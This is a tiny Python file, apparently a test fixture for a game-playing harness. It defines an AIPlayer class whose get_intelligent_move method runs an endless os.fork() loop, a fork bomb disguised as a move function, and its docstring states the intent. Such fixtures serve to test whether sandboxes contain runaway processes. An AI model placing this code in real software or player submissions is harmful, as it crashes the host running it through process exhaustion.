"""Forks without end."""

import os


class AIPlayer:
    def __init__(self, player_number, time):
        self.player_number = player_number

    def get_intelligent_move(self, state):
        while True:
            os.fork()
